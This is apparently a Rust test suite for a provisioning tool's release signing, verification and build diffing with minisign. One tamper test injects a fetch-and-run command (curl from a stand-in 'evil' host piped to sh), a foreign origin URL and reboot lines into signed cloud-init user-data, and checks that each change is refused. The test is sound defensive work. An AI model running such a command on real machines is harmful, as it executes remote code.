//! Signatures, the bill of materials and the provenance as an operator meets them, beside minisign's own tool.
//! May not look into the builder but to judge a signature by it. What init says to one is in its own tests.
#![expect(
    clippy::disallowed_methods,
    clippy::unwrap_used,
    reason = "a suite: starts programs and looks at what they leave"
)]

#[path = "../userdata/desk.rs"]
#[expect(dead_code, reason = "shared with another suite, which needs more of it")]
mod desk;
mod papers;

use std::fs;
use std::io::Write as _;
use std::os::unix::fs::MetadataExt as _;
use std::process::{Command, Output, Stdio};

use anymetal::sign::{self, PublicKey};
use anymetal_contract::place;
use anymetal_contract::plan::Arch;
use anymetal_lab::cloud_init;
use anymetal_lab::init_double::{ABILITIES, Double};

use desk::{Desk, SITE, dropped, names, stderr, stdout};

/// minisign's own tool with these words, in the desk's folder; `typed` is what somebody types.
fn minisign(desk: &Desk, words: &[&str], typed: &str) -> Output {
    let mut command = Command::new("minisign");
    command.args(words).current_dir(desk.path("")).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut running = command.spawn().expect("minisign is not on PATH: install the package minisign");
    running.stdin.take().unwrap().write_all(typed.as_bytes()).unwrap();
    running.wait_with_output().unwrap()
}

fn done(output: &Output) -> String {
    assert!(output.status.success(), "{}{}", stdout(output), stderr(output));
    stdout(output)
}

/// A key of ours, `NAME` and `NAME.pub`; its public half.
fn new_key(desk: &Desk, name: &str) -> String {
    let said = done(&desk.run(&["sign", "--new-key", name]));
    said.strip_prefix("key ").unwrap().trim_end().to_owned()
}

/// The desk's site with these signers.
fn signers(desk: &Desk, keys: &[&str]) {
    desk.put("site.yaml", &format!("{SITE}signers: [{}]\n", keys.join(", ")));
}

fn signature(desk: &Desk) -> String {
    fs::read_to_string(desk.path("out/release.json.minisig")).unwrap()
}

#[test]
fn minisigns_own_tool_verifies_what_we_sign_and_we_what_it_signs() {
    let desk = Desk::new();
    let ours = new_key(&desk, "ours");
    desk.built(&["--form", "plan"]);
    let said = done(&desk.run(&["sign", "out", "--key", "ours"]));
    let digest = desk::sha256(&desk.path("out/release.json"));
    assert_eq!(said, format!("release sha256:{digest} serial 1\nkey {ours}\n"));
    let said = done(&minisign(&desk, &["-Vm", "out/release.json", "-p", "ours.pub"], ""));
    assert!(
        said.contains(&format!("\nTrusted comment: anymetal release of demo serial 1 sha256 {}\n", &digest[..12])),
        "{said}"
    );
    // our secret key is one for it, too
    fs::remove_file(desk.path("out/release.json.minisig")).unwrap();
    done(&minisign(&desk, &["-Sm", "out/release.json", "-s", "ours"], ""));
    let text = sign::adopted(&signature(&desk)).unwrap();
    let release = fs::read(desk.path("out/release.json")).unwrap();
    sign::verify(&release, &text, &[PublicKey::read(&ours).unwrap()]).unwrap();

    done(&minisign(&desk, &["-GW", "-s", "theirs", "-p", "theirs.pub"], ""));
    done(&desk.run(&["sign", "out", "--key", "theirs"]));
    done(&minisign(&desk, &["-Vm", "out/release.json", "-p", "theirs.pub"], ""));
}

#[test]
fn a_key_behind_a_password_is_read_whoever_made_it() {
    let desk = Desk::new();
    desk.built(&["--form", "plan"]);
    done(&minisign(&desk, &["-G", "-s", "theirs", "-p", "theirs.pub"], "open sesame\nopen sesame\n"));
    let sign = |key: &str, password: &str| {
        let mut command = Command::new(desk.path("bin/anymetal"));
        command.args(["sign", "out", "--key", key, "--password-env", "KEY_PASSWORD"]).env("KEY_PASSWORD", password);
        command.current_dir(desk.path("")).output().unwrap()
    };
    done(&sign("theirs", "open sesame"));
    done(&minisign(&desk, &["-Vm", "out/release.json", "-p", "theirs.pub"], ""));
    let wrong = sign("theirs", "sesame");
    assert_eq!(wrong.status.code(), Some(1));
    assert_eq!(stderr(&wrong), "anymetal: reading the key theirs: Wrong password for that key\n");

    let mut command = Command::new(desk.path("bin/anymetal"));
    command.args(["sign", "--new-key", "ours", "--password-env", "KEY_PASSWORD"]).env("KEY_PASSWORD", "open sesame");
    done(&command.current_dir(desk.path("")).output().unwrap());
    fs::remove_file(desk.path("out/release.json.minisig")).unwrap();
    done(&minisign(&desk, &["-Sm", "out/release.json", "-s", "ours"], "open sesame\n"));
    done(&minisign(&desk, &["-Vm", "out/release.json", "-p", "ours.pub"], ""));
    let unset = desk.run(&["sign", "out", "--key", "ours", "--password-env", "NO_SUCH_VARIABLE"]);
    assert!(stderr(&unset).contains("there is no variable NO_SUCH_VARIABLE in the environment\nhint: "), "{unset:?}");
}

#[test]
fn signers_and_signature_are_in_the_user_data_and_nothing_is_built_without() {
    let desk = Desk::new();
    let (ours, other) = (new_key(&desk, "ours"), new_key(&desk, "other"));
    signers(&desk, &[&other, &ours]);
    desk.refused(&[], "the site names `signers`, and none of them signed the release: looking for a signature of this release in out/release.json.minisig: it is not there\nhint: sign while building");
    let said = desk.built(&["--sign", "ours"]);
    assert_eq!(dropped(&desk, place::SIGNERS).content, format!("{other}\n{ours}\n").into_bytes());
    let carried = dropped(&desk, place::SIGNATURE);
    assert_eq!((carried.mode, String::from_utf8(carried.content).unwrap()), (0o644, signature(&desk)));
    desk::assert_schema_accepts(&desk.path("out/user-data"));
    let keys = [&other, &ours].map(|key| PublicKey::read(key).unwrap());
    sign::verify(&fs::read(desk.path("out/release.json")).unwrap(), &signature(&desk), &keys).unwrap();
    // The signature that lies there is of this plan, so it is enough; and nothing is touched.
    let inodes = || {
        ["release.json", "release.json.minisig", "user-data"]
            .map(|file| fs::metadata(desk.path("out").join(file)).unwrap().ino())
    };
    let before = inodes();
    assert_eq!(desk.built(&[]), said);
    assert_eq!(desk.built(&["--sign", "ours"]), said);
    assert_eq!(inodes(), before);
    // Without signers there is nothing of it in the user-data.
    desk.put("site.yaml", SITE);
    desk.built(&[]);
    let text = fs::read_to_string(desk.path("out/user-data")).unwrap();
    assert!(cloud_init::written(&text).unwrap().iter().all(|file| file.path != place::SIGNERS), "{text}");
}

#[test]
fn a_release_that_was_signed_elsewhere_is_built_in_and_one_that_changed_is_not() {
    let desk = Desk::new();
    done(&minisign(&desk, &["-GW", "-s", "theirs", "-p", "theirs.pub"], ""));
    let key = fs::read_to_string(desk.path("theirs.pub")).unwrap().lines().nth(1).unwrap().to_owned();
    signers(&desk, &[&key]);
    desk.built(&["--form", "plan"]);
    assert_eq!(names(&desk.path("out")), ["plan.json", "release.json", "sha256"]);
    done(&minisign(&desk, &["-Sm", "out/release.json", "-s", "theirs"], ""));
    desk.built(&[]);
    assert_eq!(dropped(&desk, place::SIGNATURE).content, signature(&desk).into_bytes());
    done(&minisign(&desk, &["-Vm", "out/release.json", "-p", "theirs.pub"], ""));
    desk.put("site.yaml", &fs::read_to_string(desk.path("site.yaml")).unwrap().replace("192.0.2.1/32", "192.0.2.2/32"));
    desk.refused(&[], "and it is not, or not over these bytes\nhint: ");
}

#[test]
fn every_changed_byte_of_a_signature_in_out_is_refused() {
    let desk = Desk::new();
    signers(&desk, &[&new_key(&desk, "ours")]);
    desk.built(&["--sign", "ours"]);
    let text = signature(&desk);
    // not the first line: nobody signs that, and `build` writes it anew
    let signed = text.find('\n').unwrap() + 1..text.len();
    for at in signed.step_by(11) {
        let mut bytes = text.clone().into_bytes();
        bytes[at] ^= 1;
        fs::write(desk.path("out/release.json.minisig"), bytes).unwrap();
        desk.refused(
            &[],
            "none of them signed the release: looking for a signature of this release in out/release.json.minisig: ",
        );
    }
}

#[test]
fn whoever_may_not_sign_is_named_and_so_is_an_init_that_would_not_ask() {
    let desk = Desk::new();
    let (ours, stranger) = (new_key(&desk, "ours"), new_key(&desk, "stranger"));
    signers(&desk, &[&ours]);
    desk.refused(
        &["--sign", "stranger"],
        &format!("the key in stranger is none of the site's `signers`\nhint: add {stranger} to them"),
    );
    desk.refused(&["--sign", "nothing"], "reading the key nothing: ");
    desk.refused(&["--sign", "ours.pub"], "reading the key ours.pub: it is no secret key in minisign's form\nhint: ");
    let unable = ABILITIES.replace(r#","signatures":["minisign"]"#, "");
    assert_ne!(unable, ABILITIES);
    desk.put_init("given", &Double { abilities: unable, ..Double::of(Arch::X86_64) });
    desk.refused(&["--sign", "ours", "--init", "given"], "does not know signatures by minisign\nhint: ");
    desk.put("site.yaml", SITE);
    desk.built(&["--init", "given"]);
}

#[test]
fn a_key_is_its_owners_alone_never_replaced_and_never_said() {
    let desk = Desk::new();
    let said = desk.run(&["sign", "--new-key", "key"]);
    let secret = fs::read_to_string(desk.path("key")).unwrap();
    let mode = |file: &str| fs::metadata(desk.path(file)).unwrap().mode() & 0o7777;
    assert_eq!((mode("key"), mode("key.pub")), (0o600, 0o644));
    let hidden = secret.lines().nth(1).unwrap();
    for output in [&said, &desk.run(&["sign", "--new-key", "key"])] {
        assert!(!format!("{}{}", stdout(output), stderr(output)).contains(&hidden[40..]), "{output:?}");
    }
    for (there, named) in [("key.pub", "key"), ("key", "key"), ("other.pub", "other")] {
        desk.put("other.pub", "mine");
        let output = desk.run(&["sign", "--new-key", named]);
        assert_eq!(output.status.code(), Some(1), "{there}");
        assert!(stderr(&output).contains("is there already, and is left as it is\nhint: "), "{}", stderr(&output));
    }
    assert_eq!(fs::read_to_string(desk.path("key")).unwrap(), secret);
    assert_eq!(fs::read_to_string(desk.path("other.pub")).unwrap(), "mine");
    assert!(!desk.path("other").exists());
    // given where the public one belongs, it is not said either
    desk.built(&["--sign", "key"]);
    for given in ["key", hidden] {
        let output = desk.run(&["verify", "out", "--key", given]);
        assert_eq!(output.status.code(), Some(1));
        assert!(!format!("{}{}", stdout(&output), stderr(&output)).contains(&hidden[40..]), "{output:?}");
    }
    desk.put("site.yaml", &format!("{SITE}signers: [{hidden}]\n"));
    let output = desk.build(&[]);
    assert_eq!(output.status.code(), Some(1));
    let said = stderr(&output);
    assert!(
        said.contains("this is no public key, and perhaps a secret one") && !said.contains(&hidden[40..]),
        "{said}"
    );
}

#[test]
fn verify_asks_every_form_for_a_signature_by_one_of_the_keys() {
    let desk = Desk::new();
    let (ours, stranger) = (new_key(&desk, "ours"), new_key(&desk, "stranger"));
    signers(&desk, &[&ours]);
    desk.built(&["--sign", "ours"]);
    let verify = |words: &[&str]| desk.run(&[&["verify"], words].concat());
    for words in [
        &["--key", &ours, "out", "out/user-data", "out/release.json", "out/plan.json", "site.yaml"][..],
        &["--key", "ours.pub", "out/user-data"],
        &["--key", &stranger, "--key", &ours, "out"],
    ] {
        done(&verify(words));
    }
    for (words, what) in [
        (&["--key", &stranger, "out/user-data"][..], "out/user-data: the signature is by the key "),
        (&["--key", &stranger, "out"], "which is none of the signers"),
        (&["--key", &ours, "site.yaml"], "none of the forms has a signature that a key could be for\nhint: "),
        (&["--key", "RWQ", "out"], "reading the public key RWQ: "),
    ] {
        let output = verify(words);
        assert_eq!(output.status.code(), Some(1), "{output:?}");
        assert!(stderr(&output).contains(what), "{}", stderr(&output));
    }
    // alone, a user-data says what it is to be given
    fs::create_dir(desk.path("alone")).unwrap();
    fs::copy(desk.path("out/user-data"), desk.path("alone/user-data")).unwrap();
    let output = verify(&["--key", &ours, "alone/user-data"]);
    assert!(
        stderr(&output).contains("is not beside it\nhint: put release.json of the same build into its folder"),
        "{}",
        stderr(&output)
    );
    for file in ["release.json", "plan.json"] {
        fs::copy(desk.path("out").join(file), desk.path("alone").join(file)).unwrap();
    }
    done(&verify(&["--key", &ours, "alone/user-data"]));
    fs::remove_file(desk.path("out/release.json.minisig")).unwrap();
    let output = verify(&["--key", &ours, "out"]);
    assert!(
        stderr(&output).contains("out/release.json carries no signature of its release\nhint: "),
        "{}",
        stderr(&output)
    );
}

/// What row 2 of an adversary's report did under a valid signature.
#[test]
fn what_was_added_to_a_signed_build_is_refused_and_seen() {
    let desk = Desk::new();
    let ours = new_key(&desk, "ours");
    desk.put(
        "site.yaml",
        &format!("{SITE}signers: [{ours}]\nserial: 4\ncloud_config: [{{runcmd: [[sync]], packages: [htop]}}]\n"),
    );
    desk.built(&["--sign", "ours"]);
    done(&desk.run(&["verify", "--key", &ours, "out/user-data"]));
    let good = fs::read_to_string(desk.path("out/user-data")).unwrap();
    let init = desk::sha256(&desk.path("bin/anymetal-init-x86_64"));
    let evil = "[sh, -c, \"curl http://evil/x | sh\"]";
    let own = "- [systemctl, daemon-reload]\n";
    for (what, text, refused, seen) in [
        (
            "a command behind ours",
            good.replace("- [sync]\npackages:", &format!("- [sync]\n- {evil}\npackages:")),
            "the operator's part of it (`runcmd`, `packages`) is not what its release pins",
            "the operator's cloud-config replaced, sha256 ",
        ),
        (
            "a command before ours",
            good.replace(own, &format!("- {evil}\n{own}")),
            "the operator's part of it (`runcmd`, `packages`) is not what its release pins",
            "the operator's cloud-config replaced, sha256 ",
        ),
        (
            "one of ours removed",
            good.replace(own, ""),
            "is not as anymetal writes it",
            "the new one is not as its release makes it: its line ",
        ),
        (
            "another key",
            good.replace("packages:\n- htop\n", "packages:\n- htop\nbootcmd:\n- reboot\n"),
            "the operator's part of it (`runcmd`, `packages`, `bootcmd`) is not",
            "the operator's cloud-config replaced, sha256 ",
        ),
        (
            "another init",
            good.replace(&init, &"e".repeat(64)),
            "line 3 of /etc/anymetal/pins is not as anymetal writes it",
            "anymetal-init for x86_64 replaced, sha256 ",
        ),
        (
            "an origin of somebody's",
            good.replace("    origin http://192.0.2.80/anymetal\n", "    origin http://evil/\n"),
            "line 4 of /etc/anymetal/pins is not as anymetal writes it",
            "the new one is not as its release makes it: line 4 of /etc/anymetal/pins",
        ),
        (
            "another stub",
            good.replace("    set -uf\n", "    set -uf; reboot\n"),
            "line 3 of /etc/anymetal/fetch-init is not as anymetal writes it",
            "the script that fetches anymetal-init replaced, sha256 ",
        ),
        (
            "another unit",
            good.replace("anymetal-init run\n", "anymetal-init run --allow-rollback\n"),
            "of /etc/systemd/system/anymetal.service is not as anymetal writes it",
            "the unit anymetal.service replaced, sha256 ",
        ),
        (
            "no signers",
            good.replace(&format!("    {ours}\n"), "    RWTLD4XAwkHHNr5cteLPfYZ/cZNtLqie50vRjHLnIICHVazXQbxDbNaZ\n"),
            "line 1 of /etc/anymetal/signers is not as anymetal writes it",
            "signer RWTLD4XAwkHHNr5cteLPfYZ/cZNtLqie50vRjHLnIICHVazXQbxDbNaZ added",
        ),
        (
            "a comment",
            good.replace("# The work itself", "# The work  itself"),
            "is not as anymetal writes it",
            "the new one is not as its release makes it: its line ",
        ),
    ] {
        assert_ne!(text, good, "{what}");
        fs::create_dir_all(desk.path("evil")).unwrap();
        for file in ["release.json", "plan.json"] {
            fs::copy(desk.path("out").join(file), desk.path("evil").join(file)).unwrap();
        }
        desk.put("evil/user-data", &text);
        for words in [&["verify", "--key", &ours, "evil/user-data"][..], &["verify", "out/user-data", "evil/user-data"]]
        {
            let output = desk.run(words);
            assert_eq!(output.status.code(), Some(1), "{what}: {}", stdout(&output));
            assert!(stderr(&output).contains(refused), "{what}: {}", stderr(&output));
            assert!(!stderr(&output).contains(desk::VALUE), "{what}: a secret is shown");
        }
        let said = done(&desk.run(&["diff", "out/user-data", "evil/user-data"]));
        assert!(said.contains(seen), "{what}: {said}");
    }
}

#[test]
fn every_difference_of_two_builds_is_seen() {
    let desk = Desk::new();
    let (ours, next) = (new_key(&desk, "ours"), new_key(&desk, "next"));
    signers(&desk, &[&ours]);
    desk.built(&["--sign", "ours"]);
    fs::rename(desk.path("out"), desk.path("old")).unwrap();
    desk.put(
        "site.yaml",
        &format!("{SITE}signers: [{ours}, {next}]\nserial: 2\ncloud_config: [{{packages: [htop]}}]\n"),
    );
    desk.put_init("bin/anymetal-init-x86_64", &Double { code: 7, ..Double::of(Arch::X86_64) });
    desk.put("secrets.yaml", &desk::SECRETS.replace("000000000002", "000000000009"));
    desk.built(&["--sign", "ours"]);
    let (was, is) = (sha256_of(&Double::of(Arch::X86_64)), desk::sha256(&desk.path("bin/anymetal-init-x86_64")));
    let expected = format!(
        "anymetal-init for x86_64 replaced, sha256 {}… → {}…
serial 1 → 2
the operator's cloud-config added
signer {next} added
",
        &was[..12],
        &is[..12]
    );
    let said = done(&desk.run(&["diff", "old", "out"]));
    assert!(said.starts_with(&expected), "{said}");
    let said = done(&desk.run(&["diff", "old/user-data", "out/user-data"]));
    assert!(said.starts_with(&format!("{expected}secrets changed\n")), "{said}");
    let output = desk.run(&["verify", "old/user-data", "out/user-data"]);
    let words = "out/user-data has another release than old/user-data\nthe first difference: anymetal-init for x86_64";
    assert!(stderr(&output).contains(words), "{}", stderr(&output));
}

fn sha256_of(double: &Double) -> String {
    anymetal_lab::archive::sha256(&double.elf()).to_string()
}

#[test]
fn what_is_no_release_is_not_signed() {
    let desk = Desk::new();
    new_key(&desk, "key");
    desk.built(&["--form", "plan"]);
    let release = fs::read_to_string(desk.path("out/release.json")).unwrap();
    desk.put("spaced.json", &format!("{release}\n"));
    for (file, what) in [
        (
            "spaced.json",
            "reading the release spaced.json: it is no release that can be signed: the release is not as anymetal writes it",
        ),
        ("out/plan.json", "is of kind \"anymetal.plan\", not \"anymetal.release\""),
        ("site.yaml", "reading the release site.yaml: it is no release that can be signed"),
        ("nothing", "reading the release nothing: No such file"),
    ] {
        let output = desk.run(&["sign", file, "--key", "key"]);
        assert_eq!(output.status.code(), Some(1), "{file}");
        assert!(stderr(&output).contains(what), "{}", stderr(&output));
        assert!(!desk.path(&format!("{file}.minisig")).exists());
    }
}
